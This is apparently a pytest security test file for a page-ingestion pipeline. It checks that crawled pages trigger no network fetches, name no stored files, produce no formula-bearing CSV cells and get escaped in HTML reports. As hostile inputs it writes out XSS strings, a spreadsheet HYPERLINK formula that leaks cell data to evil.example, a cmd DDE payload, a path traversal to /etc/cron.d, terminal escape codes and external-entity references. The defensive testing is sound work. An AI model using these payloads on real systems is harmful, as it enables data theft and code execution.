"""Nothing of a page is run, fetched or trusted."""

import csv
import io
import re
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from flows.page import explain_page, process_page
from tasks.read import format_of, read_records
from tasks.records import RawObject, RawPage
from tasks.report.explain_html import as_html
from tasks.report.explain_text import lines_of
from tasks.store import Store, query, write_batch, write_rows
from tests.hostile.prose import headline, page
from tests.hostile.words import WORDS
from tests.read.build import MODIFIED, read
from tests.read.build import warc as warc_record

SCRIPT = "<script>alert(document.cookie)</script>"


@contextmanager
def listener() -> Iterator[tuple[str, list[bytes]]]:
    """A server on this machine: its address, and what it was asked."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0.2)
        over = threading.Event()

        def serve() -> None:
            while not over.is_set():
                try:
                    client, _ = server.accept()
                except TimeoutError:
                    continue
                with client:
                    asked.append(client.recv(100))

        thread = threading.Thread(target=serve)
        thread.start()
        try:
            yield f"http://127.0.0.1:{server.getsockname()[1]}", asked
        finally:
            over.set()
            thread.join()


def with_references(at: str) -> dict[str, bytes]:
    """Every way that a page has of wanting something fetched, by the name of its object."""
    head = (
        f'<base href="{at}/"><link rel="stylesheet" href="{at}/a.css"><link rel="canonical" href="{at}/c">'
        f'<link rel="amphtml" href="{at}/amp"><link rel="next" href="{at}/2"><script src="{at}/a.js"></script>'
        f'<meta http-equiv="refresh" content="0;url={at}/r"><meta property="og:image" content="{at}/i.png">'
        f'<script type="application/ld+json">{{"@context": "{at}/context", "@id": "{at}/id", "@type": "NewsArticle",'
        f'"image": "{at}/i.png", "author": {{"@id": "{at}/author"}}}}</script><style>@import url({at}/b.css);</style>'
    )
    inside = (
        f'<img src="{at}/a.png" srcset="{at}/b.png 2x" onerror="fetch(\'{at}/x\')"><iframe src="{at}/f"></iframe>'
        f'<object data="{at}/o"></object><embed src="{at}/e"><video src="{at}/v" poster="{at}/p"></video>'
        f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{at}/xi"/><frame src="{at}/frame">'
        f'<svg><use href="{at}/s.svg#a"/></svg><p style="background:url({at}/bg)">A styled paragraph.</p>'
    )
    whole = page(head=head).replace("<article>", f"<article>{inside}", 1)
    bare = whole.partition("\n")[2]
    dtd = f'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "{at}/a.dtd" [<!ENTITY x SYSTEM "{at}/e.txt">]>'
    sheet = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{at}/a.xsl"?>'
    return {
        "plain.html": whole.encode(),
        "dtd.html": (dtd + bare.replace("<p>", "<p>&x;", 1)).encode(),
        "sheet.html": (sheet + dtd + bare).encode(),
        "text.txt": whole.encode(),
        "feed.jsonl": b'{"url": "%s/u", "html": "<p>See %s/h</p>"}\n' % (at.encode(), at.encode()),
        "crawl.warc": warc_record(url=f"{at}/w"),
    }


def test_nothing_is_fetched(monkeypatch: pytest.MonkeyPatch) -> None:
    """No connection is made from Python, and none reaches the server that the page names, from C either."""

    def refused(*_: object) -> None:
        raise AssertionError("a page made us look for something in the network")

    with listener() as (address, asked):
        monkeypatch.setattr(socket.socket, "connect", refused)
        monkeypatch.setattr(socket, "getaddrinfo", refused)
        for name, data in with_references(address).items():
            for record in read(name, data):
                assert isinstance(record, RawPage)
                for fallback in (False, True):
                    process_page(record, fallback=fallback)
                    explain_page(record, fallback=fallback)
    assert asked == []


def test_the_server_would_have_noticed() -> None:
    with listener() as (address, asked):
        with socket.create_connection(("127.0.0.1", int(address.rpartition(":")[2]))) as client:
            client.sendall(b"GET /")
        threading.Event().wait(0.5)
    assert asked == [b"GET /"]


def hostile_pages() -> list[RawPage]:
    """Pages whose title, byline, text, address and file name want to be more than text."""
    titles = [
        "=HYPERLINK(&quot;https://evil.example/?&quot;&amp;A1)",
        "+1+cmd|' /C calc'!A0",
        "../../../../etc/cron.d/x",
        "&lt;script&gt;alert(document.cookie)&lt;/script&gt;",
        "&lt;/title&gt;&lt;img src=x onerror=alert(1)&gt;",
        "[2J&#27;[2J&#155;2J",
    ]
    made = [page(head=f'<meta name="author" content="{title}">').replace(headline(0), title) for title in titles]
    made += [str(kind.make()) for kind in WORDS if kind.suffix == ".html" and not kind.heavy]
    pages = []
    for number, html in enumerate(made):
        uri = f"s3://raw/2024-03-05/..%2f{number}\x1b]0;x\x07{SCRIPT}'\"=1.html"
        obj = RawObject(uri=uri, etag="1", size=1, modified=MODIFIED)
        fmt = format_of(uri)
        assert fmt
        [raw] = read_records(obj, io.BytesIO(html.encode("utf-8", "surrogatepass")), fmt=fmt)
        assert isinstance(raw, RawPage)
        pages.append(raw)
    return pages


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> tuple[Store, Path]:
    """A store that holds them."""
    folder = tmp_path_factory.mktemp("store")
    store = Store.open(str(folder))
    write_batch(store, [process_page(raw) for raw in hostile_pages()])
    return store, folder


_NAMES = re.compile(
    r"documents/day=2024-03-05/[0-9a-f]{32}\.json"
    r"|tables/\w+/(day=2024-03-05/)?part-[\w.-]+\.parquet|tables/\w+/_delta_log/[\w.-]+\.json|schemas/\w+\.json|runs/.*"
)


def test_no_file_is_named_by_a_page(store: tuple[Store, Path]) -> None:
    names = [str(path.relative_to(store[1])) for path in store[1].rglob("*") if path.is_file()]
    assert len([name for name in names if name.startswith("documents/")]) > 10
    assert [name for name in names if not _NAMES.fullmatch(name)] == []


@pytest.mark.parametrize("table", ["documents", "events", "pages"])
def test_no_cell_of_a_csv_is_a_formula_or_steers(store: tuple[Store, Path], table: str) -> None:
    stream = io.BytesIO()
    assert write_rows(query(store[0], table), "csv", stream) > 10
    numbers = {"latitude", "longitude"}
    for row in csv.DictReader(io.StringIO(stream.getvalue().decode(), newline="")):
        for name, cell in row.items():
            assert name in numbers or not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), (name, cell)
            assert not re.search("[\x00-\x08\x0b-\x0c\x0e-\x1f\x7f-\x9f]", cell), (name, cell)


def test_explanations_escape_everything() -> None:
    for raw in hostile_pages():
        explanation = explain_page(raw)
        html = as_html(explanation)
        tags = set(re.findall(r"<\s*/?\s*([a-zA-Z][\w:-]*)", html))
        assert tags <= OURS, tags - OURS
        assert not re.search(r"<[^>]*\son\w+\s*=", html)
        assert "Content-Security-Policy" in html
        for line in lines_of(explanation):
            assert not re.search("[\x00-\x08\x0a-\x1f\x7f-\x9f]", line.plain)


OURS = frozenset(
    "html head meta title style body h1 h2 p dl dt dd div section span s mark sup a ol li b blockquote".split()
)
